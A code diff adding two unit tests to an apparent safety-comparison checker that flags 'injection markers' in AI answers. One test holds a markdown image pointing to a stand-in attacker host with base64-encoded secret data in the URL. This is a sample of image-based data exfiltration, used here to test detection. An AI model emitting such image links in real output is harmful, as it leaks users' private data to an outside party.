@@ -86,6 +86,20 @@ class SafetyComparatorTest {
         assertThat(compare(leak, leak + " Or not.").result()).isEqualTo("match");
     }
 
+    @Test
+    void compare_imagesOfHostsThatAreNamed_doNotHideTheOneThatIsNot() {
+        String named = "![x](https://acme-shop.com/p.png?size=2) ".repeat(1_000);
+        assertThat(compare("ok", named).other()).containsEntry("injection_markers", 0.0);
+        assertThat(compare("ok", named + "![x](https://evil.invalid/p.png?d=c2VjcmV0)")
+                        .other())
+                .containsEntry("injection_markers", 1.0);
+    }
+
+    @Test
+    void compare_imagesThatNeverBegin_areEachLookedAtInPart() {
+        assertThat(compare("ok", "![".repeat(500_000)).other()).containsEntry("injection_markers", 0.0);
+    }
+
     private Comparison compare(String live, String candidate) {
         return safety.compare(ASKED, Answers.live(live), Answers.candidate(candidate));
     }
